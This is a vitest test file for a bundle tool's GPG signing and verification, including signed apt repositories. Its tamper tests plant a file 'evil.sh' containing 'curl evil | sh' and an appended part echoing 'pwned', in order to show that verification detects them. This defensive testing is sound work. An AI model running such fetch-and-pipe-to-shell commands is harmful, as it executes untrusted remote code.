import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { appendFile, chmod, cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as openpgp from 'openpgp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hexOf } from '../src/store/digest.js';
import { verifyBundle } from '../src/bundle/verify.js';
import { type BuildOptions, buildBundle } from '../src/bundle/publish.js';
import { installBundle } from '../src/install/install.js';
import { signWithKeyFile } from '../src/bundle/sign.js';
import { makeBuildCtx } from '../src/context.js';
import type { LoadedManifest } from '../src/manifest/load.js';
import { installApt } from '../src/sources/apt/install.js';
import type { BoxCtx, Exec, Locked } from '../src/sources/source.js';
import { execFile } from '../src/util/exec.js';
import { walk } from '../src/util/fs.js';
import { makeKey, makeRepo, serveDir, type SigningKey } from './helpers/apt-repo.js';
import { runCli } from './helpers/cli.js';
import { fileManifest } from './helpers/fixtures.js';
import { tempDir } from './helpers/tmp.js';
import { gpgExport } from './helpers/gpg.js';

let work: string;
let rel: SigningKey;
let other: SigningKey;
/** Armoured exports of the release key and of another key (gpg --export[-secret-keys] --armor). */
const keys = { sec: '', pub: '', otherSec: '', otherPub: '' };
let server: Awaited<ReturnType<typeof serveDir>>;
let fileM: string;
let aptM: string;

/** `gpg --verify SHA256SUMS.asc SHA256SUMS` in the bundle, with a fresh GNUPGHOME that holds only `pub`. */
function gpgVerify(bundle: string, pub: string): { status: number | null; stderr: string } {
  const home = execFileSync('mktemp', ['-d'], { encoding: 'utf8' }).trim();
  const env = { ...process.env, GNUPGHOME: home };
  execFileSync('gpg', ['--batch', '--import', pub], { env, stdio: 'ignore' });
  const r = spawnSync('gpg', ['--batch', '--verify', 'SHA256SUMS.asc', 'SHA256SUMS'], { cwd: bundle, env, encoding: 'utf8' });
  execFileSync('rm', ['-rf', home]);
  return { status: r.status, stderr: r.stderr };
}

async function build(dir: string, manifest: string, o: Partial<BuildOptions> = {}) {
  return buildBundle({ manifest, out: join(dir, 'out'), frozen: false, concurrency: 4, ...o }, (m: LoadedManifest) =>
    makeBuildCtx({
      cacheDir: join(work, 'cache'),
      report: () => {},
      signal: new AbortController().signal,
      manifestPath: m.path,
      baseDir: m.dir,
      target: m.manifest.target,
    }),
  );
}

async function copy(src: string): Promise<string> {
  const d = join(await tempDir(), 'bundle');
  await cp(src, d, { recursive: true });
  for (const e of await walk(d)) if (e.kind === 'file') await chmod(join(d, e.path), 0o644);
  return d;
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'vb-sign-'));
  rel = await makeKey(work, 'Release');
  other = await makeKey(work, 'Mallory');
  keys.sec = gpgExport(rel, true, join(work, 'release.sec.asc'));
  keys.pub = gpgExport(rel, false, join(work, 'release.asc'));
  keys.otherSec = gpgExport(other, true, join(work, 'mallory.sec.asc'));
  keys.otherPub = gpgExport(other, false, join(work, 'mallory.asc'));
  fileM = (await fileManifest(work, { name: 'signed', sizes: [100, 70_000] })).manifest;
  const repo = join(work, 'repo');
  const repoKey = await makeKey(work, 'Repo');
  await makeRepo(repo, {
    key: repoKey,
    packages: [
      { name: 'alpha', version: '1.0-1', depends: 'beta (>= 2)' },
      { name: 'beta', version: '2.1-1' },
    ],
  });
  server = await serveDir(repo);
  aptM = join(work, 'apt.yaml');
  await writeFile(
    aptM,
    `name: signed-apt\nversion: 1.0.0\ntarget: {os: debian-12, arch: amd64}\napt:\n  sources:\n    - uri: ${server.url}\n      suites: [stable]\n      components: [main]\n      signed-by: ${repoKey.keyring}\n  packages: [alpha]\n`,
  );
});
afterAll(async () => {
  await server.close();
  await rm(work, { recursive: true, force: true });
});

describe('sign and verify --key', () => {
  it('writes SHA256SUMS.asc that gpg and sha256sum check with nothing of ours; verify --key names the signer', async () => {
    const dir = await tempDir();
    const b = (await build(dir, fileM)).dir;
    expect((await verifyBundle(b)).signature).toEqual({ status: 'unsigned' });
    const res = await signWithKeyFile({ bundle: b, key: keys.sec });
    expect(res).toMatchObject({ signer: rel.fingerprint, written: ['SHA256SUMS', 'SHA256SUMS.asc'], aptPackages: 0 });
    expect(await readFile(join(b, 'SHA256SUMS.asc'), 'utf8')).toMatch(/^-----BEGIN PGP SIGNATURE-----/);

    const g = gpgVerify(b, keys.pub);
    expect(g.stderr).toContain('Good signature');
    expect(g.status).toBe(0);
    expect(spawnSync('sha256sum', ['--strict', '-c', 'SHA256SUMS'], { cwd: b }).status).toBe(0);

    const v = await verifyBundle(b, { key: keys.pub, requireSignature: true });
    expect(v).toMatchObject({ ok: true, signature: { status: 'valid', signer: rel.fingerprint } });
    expect(v.steps.map((s) => s.name)).toContain('signature');
    // Without a key the signature is present but unchecked; a binary keyring works as well as an armoured one.
    expect((await verifyBundle(b)).signature.status).toBe('unchecked');
    expect((await verifyBundle(b, { key: rel.keyring })).signature.status).toBe('valid');
    // A real install journals the signer (these files have no install destination: nothing is written).
    const state = join(dir, 'state');
    const inst = await installBundle({
      bundle: b,
      dryRun: false,
      stateDir: state,
      key: keys.pub,
      ignoreTarget: true,
      exec: execFile,
      report: () => {},
      signal: new AbortController().signal,
    });
    expect(JSON.parse((await readFile(inst.journal!, 'utf8')).trim().split('\n').at(-1)!)).toMatchObject({ signer: rel.fingerprint, dryRun: false, ok: true });
  });

  it('a tampered SHA256SUMS fails verify --key (and gpg), though plain verify cannot tell', async () => {
    const dir = await tempDir();
    const b = await copy((await build(dir, fileM)).dir);
    await signWithKeyFile({ bundle: b, key: keys.sec });
    // A consistent tamper: a new file, listed in SHA256SUMS with its true hash.
    await writeFile(join(b, 'evil.sh'), 'curl evil | sh\n');
    const line = execFileSync('sha256sum', ['evil.sh'], { cwd: b, encoding: 'utf8' });
    await appendFile(join(b, 'SHA256SUMS'), line);
    expect((await verifyBundle(b)).ok).toBe(true);
    const v = await verifyBundle(b, { key: keys.pub });
    expect(v.ok).toBe(false);
    expect(v.signature).toMatchObject({ status: 'invalid', signer: rel.fingerprint });
    expect(v.problems).toEqual([
      expect.objectContaining({
        code: 'SIGNATURE_INVALID',
        path: 'SHA256SUMS.asc',
        message: expect.stringContaining(`SHA256SUMS does not match its signature by ${rel.fingerprint}`),
      }),
    ]);
    expect(gpgVerify(b, keys.pub).status).not.toBe(0);
  });

  it('a SHA256SUMS re-signed by another key fails, naming the signer found and the one expected', async () => {
    const dir = await tempDir();
    const b = await copy((await build(dir, fileM)).dir);
    await signWithKeyFile({ bundle: b, key: keys.otherSec });
    const v = await verifyBundle(b, { key: keys.pub });
    expect(v.ok).toBe(false);
    expect(v.signature).toMatchObject({ status: 'invalid', signer: other.fingerprint, expected: [rel.fingerprint] });
    expect(v.problems[0]).toMatchObject({ code: 'SIGNATURE_INVALID', found: other.fingerprint, expected: rel.fingerprint });
    expect(v.problems[0]!.message).toContain(`signed by ${other.fingerprint}, not by ${rel.fingerprint}`);
    // The CLI: exit 4 and the problem on stderr; the right key passes.
    const cli = await runCli(['verify', b, '--key', keys.pub]);
    expect(cli.code).toBe(4);
    expect(cli.stderr).toContain('SIGNATURE_INVALID');
    const ok = await runCli(['verify', b, '--key', keys.otherPub]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain(`signature by ${other.fingerprint} valid`);
  });

  it('unsigned: a key requires a signature (a stripped copy fails with --key alone), --require-signature is kept and needs --key', async () => {
    const dir = await tempDir();
    const signed = (await build(dir, fileM, { signKey: keys.sec })).dir;
    const b = await copy(signed);
    await rm(join(b, 'SHA256SUMS.asc'));
    // Plain verify cannot tell a stripped copy from an unsigned bundle; --key can.
    expect(await verifyBundle(b)).toMatchObject({ ok: true, signature: { status: 'unsigned' } });
    for (const o of [{ key: keys.pub }, { key: keys.pub, requireSignature: true }]) {
      const v = await verifyBundle(b, o);
      expect(v).toMatchObject({ ok: false, signature: { status: 'unsigned', expected: [rel.fingerprint] } });
      expect(v.problems).toEqual([expect.objectContaining({ code: 'UNSIGNED', path: 'SHA256SUMS.asc' })]);
    }
    await expect(verifyBundle(b, { requireSignature: true })).rejects.toMatchObject({ code: 'BAD_FLAG', exitCode: 64 });
    for (const extra of [[], ['--require-signature']]) {
      const cli = await runCli(['verify', b, '--key', keys.pub, ...extra]);
      expect(cli.code).toBe(4);
      expect(cli.stderr).toContain('UNSIGNED: SHA256SUMS.asc: missing');
      expect(cli.stdout).not.toContain('NOT SIGNED');
    }
    // install --key never falls back to [trusted=yes] for a copy whose signature was removed.
    const inst = await installBundle({
      bundle: b,
      dryRun: true,
      stateDir: join(dir, 'state'),
      key: keys.pub,
      requireSignature: true,
      ignoreTarget: true,
      exec: execFile,
      report: () => {},
      signal: new AbortController().signal,
    }).catch((e: unknown) => e);
    expect(inst).toMatchObject({ code: 'UNSIGNED', exitCode: 4 });
  });

  it('refuses unusable keys with BAD_KEY: a public key, an unreadable file, a locked key without its passphrase', async () => {
    const dir = await tempDir();
    const b = (await build(dir, fileM)).dir;
    await expect(signWithKeyFile({ bundle: b, key: keys.pub })).rejects.toMatchObject({
      code: 'BAD_KEY',
      exitCode: 64,
      message: expect.stringContaining(`holds only a public key (${rel.fingerprint})`),
    });
    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'nope.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
    await writeFile(join(dir, 'junk.asc'), 'not a key\n');
    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'junk.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
    await expect(verifyBundle(b, { key: join(dir, 'junk.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });

    // A key made by openpgp.js, protected by a passphrase: refused without it, used with --passphrase-file.
    const { privateKey, publicKey } = await openpgp.generateKey({
      userIDs: [{ name: 'Locked', email: 'l@test.invalid' }],
      passphrase: 'correct horse',
      format: 'armored',
    });
    await writeFile(join(dir, 'locked.sec.asc'), privateKey);
    await writeFile(join(dir, 'locked.asc'), publicKey);
    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc') })).rejects.toMatchObject({
      code: 'BAD_KEY',
      hint: expect.stringContaining('--passphrase-file'),
    });
    await writeFile(join(dir, 'wrong'), 'wrong horse\n');
    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'wrong') })).rejects.toMatchObject({
      code: 'BAD_KEY',
    });
    await writeFile(join(dir, 'pass'), 'correct horse\n');
    await signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'pass') });
    expect(gpgVerify(b, join(dir, 'locked.asc')).status).toBe(0);
    expect((await verifyBundle(b, { key: join(dir, 'locked.asc') })).signature.status).toBe('valid');
  });

  it('the carried ./verify checks the signature on a box with nothing but sh, coreutils and the public key', async () => {
    const dir = await tempDir();
    const out = join(dir, 'b');
    const b = await runCli(['-q', '--cache-dir', join(dir, 'c'), 'build', fileM, '--out', out, '--runtime', 'host', '--sign-key', keys.sec]);
    expect(b.code).toBe(0);
    expect(await readFile(join(out, 'README-FIELD.txt'), 'utf8')).toContain('./verify --key release.asc');
    const env = { PATH: '/usr/bin:/bin' };
    const ok = spawnSync('sh', [join(out, 'verify'), '--key', keys.pub, '--require-signature'], { env, encoding: 'utf8' });
    expect(ok.stdout).toMatch(new RegExp(`^OK signed 1\\.0\\.0: .*signature by ${rel.fingerprint} valid`, 'm'));
    expect(ok.status).toBe(0);
    const bad = spawnSync('sh', [join(out, 'verify'), '--key', keys.otherPub], { env, encoding: 'utf8' });
    expect(bad.status).toBe(4);
    // gpgv refuses it in sh, before the carried runtime runs (its words, then ours).
    expect(bad.stderr).toMatch(
      new RegExp(
        `using EDDSA key ${rel.fingerprint}[\\s\\S]*No public key[\\s\\S]*verify: SIGNATURE_INVALID: SHA256SUMS\\.asc does not verify against the release key`,
      ),
    );
  });

  it('a signed split bundle: parts.json is signed, so a part appended and listed fails verify --key', async () => {
    const dir = await tempDir();
    const r = await build(dir, fileM, { media: 'fat32', partSize: 64 * 1024, signKey: keys.sec });
    expect(gpgVerify(r.dir, keys.pub).status).toBe(0);
    expect(await readFile(join(r.dir, 'SHA256SUMS'), 'utf8')).toMatch(/^[0-9a-f]{64} {2}parts\.json$/m);
    const b = await copy(r.dir);
    const pm = JSON.parse(await readFile(join(b, 'parts.json'), 'utf8'));
    // The last part filled up to the part size, and a new part after it: both after the end of the tar.
    const last = pm.parts.at(-1);
    const filled = Buffer.concat([await readFile(join(b, last.file)), Buffer.from('x'.repeat(pm.partSize - last.size))]);
    await writeFile(join(b, last.file), filled);
    const extra = Buffer.from('#!/bin/sh\necho pwned\n');
    const name = `blobs.tar.${String(pm.parts.length + 1).padStart(4, '0')}`;
    await writeFile(join(b, name), extra);
    const hex = (x: Buffer | string) => createHash('sha256').update(x).digest('hex');
    Object.assign(last, { size: filled.length, sha256: hex(filled) });
    pm.parts.push({ file: name, size: extra.length, sha256: hex(extra) });
    pm.whole.size = pm.parts.reduce((n: number, p: { size: number }) => n + p.size, 0);
    await writeFile(join(b, 'parts.json'), JSON.stringify(pm));
    const codes = async () => (await verifyBundle(b, { key: keys.pub })).problems.map((p) => `${p.code} ${p.path}`).sort();
    expect(await codes()).toEqual(['DIGEST_MISMATCH parts.json', `PART_EXTRA ${last.file}`, `PART_EXTRA ${name}`]);
    // SHA256SUMS relisted to match: the signature no longer does.
    const sums = (await readFile(join(b, 'SHA256SUMS'), 'utf8')).replace(/^[0-9a-f]{64} {2}parts\.json$/m, `${hex(JSON.stringify(pm))}  parts.json`);
    await writeFile(join(b, 'SHA256SUMS'), sums);
    expect(await codes()).toEqual([`PART_EXTRA ${last.file}`, `PART_EXTRA ${name}`, 'SIGNATURE_INVALID SHA256SUMS.asc']);
  });

  it('refuses a tar (sign the folder, then --media tar) and a bundle that fails verify', async () => {
    const dir = await tempDir();
    const r = await build(dir, fileM, { media: 'tar' });
    const tar = await runCli(['sign', r.tar!, '--key', keys.sec]);
    expect(tar.code).toBe(64);
    expect(tar.stderr).toMatch(/a tar cannot be signed in place[\s\S]*hint: .*--media tar/);
    const b = await copy(r.dir);
    const blob = join(b, 'blobs/sha256', r.lock.artifacts[0]!.digest.slice(7));
    await writeFile(blob, 'changed');
    await expect(signWithKeyFile({ bundle: b, key: keys.sec })).rejects.toMatchObject({ message: expect.stringMatching(/^not signing: /) });
    // build --sign-key --media tar: the tar holds the signature.
    const signedTar = await build(dir, fileM, { media: 'tar', out: join(dir, 'signed'), signKey: keys.sec });
    expect((await verifyBundle(signedTar.tar!, { key: keys.pub, requireSignature: true })).signature.status).toBe('valid');
  });
});

describe('signed apt repository', () => {
  it('a sign cut off after writing the apt files completes when run again', async () => {
    const dir = await tempDir();
    const a = (await build(dir, aptM, { out: join(dir, 'cut') })).dir;
    await mkdir(join(a, 'apt'));
    await writeFile(join(a, 'apt/Packages'), 'half-written\n'); // what an interrupted sign leaves: unlisted
    const s = await signWithKeyFile({ bundle: a, key: keys.sec });
    expect(s.written).toContain('apt/Packages');
    expect((await verifyBundle(a, { key: keys.pub, requireSignature: true })).ok).toBe(true);
  });

  it('build --sign-key gives the same files as build + sign, folder and split folder', async () => {
    const dir = await tempDir();
    const now = new Date();
    for (const media of ['dir', 'fat32'] as const) {
      const a = (await build(dir, aptM, { out: join(dir, `a-${media}`), media, partSize: 64 * 1024, now })).dir;
      const s = await signWithKeyFile({ bundle: a, key: keys.sec, now });
      expect(s.written).toEqual(['apt/Packages', 'apt/Release', 'apt/InRelease', 'SHA256SUMS', 'SHA256SUMS.asc']);
      expect(s.aptPackages).toBe(2);
      const b = await build(dir, aptM, { out: join(dir, `b-${media}`), media, partSize: 64 * 1024, now, signKey: keys.sec });
      expect(b.signer).toBe(rel.fingerprint);
      const files = async (d: string) => (await walk(d)).filter((e) => e.kind === 'file').map((e) => e.path);
      expect(await files(b.dir)).toEqual(await files(a));
      for (const f of await files(a)) expect(await readFile(join(b.dir, f)), f).toEqual(await readFile(join(a, f)));
      expect(gpgVerify(a, keys.pub).status).toBe(0);
      if (media === 'dir') expect(spawnSync('sha256sum', ['--strict', '-c', 'SHA256SUMS'], { cwd: a }).status).toBe(0);
      expect(await verifyBundle(a, { key: keys.pub, requireSignature: true })).toMatchObject({ ok: true, signature: { status: 'valid' } });
    }
    const release = await readFile(join(dir, 'a-dir', 'apt/Release'), 'utf8');
    expect(release).toMatch(/^Origin: vault-bundle\nLabel: signed-apt\nVersion: 1\.0\.0\nDate: .+ UTC\nArchitectures: amd64\n/);
    const packages = await readFile(join(dir, 'a-dir', 'apt/Packages'));
    expect(release).toContain(` ${execFileSync('sha256sum', { input: packages, encoding: 'utf8' }).split(' ')[0]} ${packages.length} Packages\n`);
    expect(await readFile(join(dir, 'a-dir', 'apt/InRelease'), 'utf8')).toMatch(/^-----BEGIN PGP SIGNED MESSAGE-----/);
  });

  it('install --key: real apt-get reads the signed Packages/InRelease with signed-by; without a key, trusted=yes', async () => {
    const dir = await tempDir();
    const r = await build(dir, aptM, { signKey: keys.sec });
    const lists: string[] = [];
    const exec: Exec = async (cmd, args, o) => {
      const at = args.find((a) => a.startsWith('Dir::Etc::SourceList='));
      if (cmd === 'apt-get' && at && args.includes('update')) lists.push(await readFile(at.split('=')[1]!, 'utf8'));
      return execFile(cmd, args, o);
    };
    const run = (key?: string) =>
      installBundle({
        bundle: r.dir,
        dryRun: true,
        stateDir: join(dir, 'state'),
        ...(key ? { key } : {}),
        exec,
        report: () => {},
        signal: new AbortController().signal,
      });
    const res = await run(keys.pub);
    expect(res.signature).toMatchObject({ status: 'valid', signer: rel.fingerprint });
    expect(res.reports.find((x) => x.kind === 'apt')!.changed.sort()).toEqual(['alpha=1.0-1', 'beta=2.1-1']);
    expect(lists[0]).toMatch(/^deb \[signed-by=\/.+\/signed-by\.gpg\] file:\/.+ \.\/\n$/);
    // A dry run writes no journal (a real install records the signer: see the first test of sign and verify --key).
    expect(existsSync(join(dir, 'state'))).toBe(false);
    await run();
    expect(lists[1]).toMatch(/^deb \[trusted=yes\] file:/);

    // The same from a tar and from a split folder, read in place.
    const tar = await build(dir, aptM, { out: join(dir, 'tarred'), media: 'tar', signKey: keys.sec });
    const split = await build(dir, aptM, { out: join(dir, 'split'), media: 'fat32', partSize: 64 * 1024, signKey: keys.sec });
    for (const b of [tar.tar!, split.dir]) {
      const x = await installBundle({
        bundle: b,
        dryRun: true,
        stateDir: join(dir, 'state'),
        key: keys.pub,
        exec,
        report: () => {},
        signal: new AbortController().signal,
      });
      expect(x.reports.find((k) => k.kind === 'apt')!.changed).toHaveLength(2);
      expect(lists.at(-1)).toMatch(/^deb \[signed-by=/);
    }

    // The packed CLI, as on the box.
    const cli = await runCli(['install', r.dir, '--dry-run', '--key', keys.pub, '--state-dir', join(dir, 'state')]);
    expect(cli.stderr).not.toMatch(/warn|error/i);
    expect(cli.code).toBe(0);
    expect(cli.stdout).toContain(`signature by ${rel.fingerprint} valid`);
    expect(cli.stdout).toMatch(/apt: 2 to install/);
  });

  it("with no --key, the box trust policy's release keys are apt's signed-by for the bundle's signed apt repository", async () => {
    const dir = await tempDir();
    const r = await build(dir, aptM, { signKey: keys.sec });
    const trust = join(dir, 'trust');
    await mkdir(trust);
    await cp(keys.otherPub, join(trust, 'a-other.asc'));
    await cp(keys.pub, join(trust, 'release.asc'));
    const lists: string[] = [];
    const exec: Exec = async (cmd, args, o) => {
      const at = args.find((a) => a.startsWith('Dir::Etc::SourceList='));
      if (cmd === 'apt-get' && at && args.includes('update')) lists.push(await readFile(at.split('=')[1]!, 'utf8'));
      return execFile(cmd, args, o);
    };
    const before = process.env.VAULT_BUNDLE_TRUST_DIR;
    process.env.VAULT_BUNDLE_TRUST_DIR = trust;
    try {
      const res = await installBundle({
        bundle: r.dir,
        dryRun: true,
        stateDir: join(dir, 'state'),
        exec,
        report: () => {},
        signal: new AbortController().signal,
      });
      expect(res.signature).toMatchObject({ status: 'valid', signer: rel.fingerprint });
      // Real apt-get update read apt/InRelease with signed-by (never trusted=yes) and accepted it: both debs planned.
      expect(lists[0]).toMatch(/^deb \[signed-by=\/.+\/signed-by\.gpg\] file:\/.+ \.\/\n$/);
      expect(res.reports.find((x) => x.kind === 'apt')!.changed.sort()).toEqual(['alpha=1.0-1', 'beta=2.1-1']);
    } finally {
      if (before === undefined) delete process.env.VAULT_BUNDLE_TRUST_DIR;
      else process.env.VAULT_BUNDLE_TRUST_DIR = before;
    }
  });

  it('apt itself refuses a tampered InRelease and a key that did not sign it (verify refuses the tampered copy first)', async () => {
    const dir = await tempDir();
    const r = await build(dir, aptM, { signKey: keys.sec });
    const items = r.lock.artifacts.filter((a) => a.kind === 'apt');
    const boxCtx = async (bundleDir: string, signedBy: string): Promise<BoxCtx> => {
      const workDir = join(await tempDir(), 'work');
      await mkdir(workDir);
      return {
        bundleDir,
        blobPath: (a: Locked) => join(bundleDir, 'blobs/sha256', hexOf(a.digest)),
        workDir,
        stateDir: join(workDir, 'state'),
        dryRun: true,
        options: {},
        signedBy,
        exec: execFile,
        report: () => {},
        signal: new AbortController().signal,
      };
    };
    // Untampered, with the release key: apt plans the install.
    const good = await installApt(items, await boxCtx(r.dir, rel.keyring));
    expect(good.changed.sort()).toEqual(['alpha=1.0-1', 'beta=2.1-1']);
    // Signed by someone else as far as apt can tell: refused.
    await expect(installApt(items, await boxCtx(r.dir, other.keyring))).rejects.toMatchObject({
      code: 'TOOL_FAILED',
      message: expect.stringMatching(/apt-get update failed[\s\S]*NO_PUBKEY/),
    });
    // One changed byte in the signed text: apt refuses it.
    const b = await copy(r.dir);
    const inrelease = join(b, 'apt/InRelease');
    await writeFile(inrelease, (await readFile(inrelease, 'utf8')).replace('Origin: vault-bundle', 'Origin: vault-bundlX'));
    await expect(installApt(items, await boxCtx(b, rel.keyring))).rejects.toMatchObject({
      code: 'TOOL_FAILED',
      message: expect.stringMatching(/apt-get update failed[\s\S]*BADSIG/),
    });
    // Through install, verify refuses that copy before apt runs.
    await expect(
      installBundle({
        bundle: b,
        dryRun: true,
        stateDir: join(dir, 'state'),
        key: keys.pub,
        exec: execFile,
        report: () => {},
        signal: new AbortController().signal,
      }),
    ).rejects.toMatchObject({ code: 'VERIFY_FAILED', message: expect.stringContaining('apt/InRelease') });
  });
});
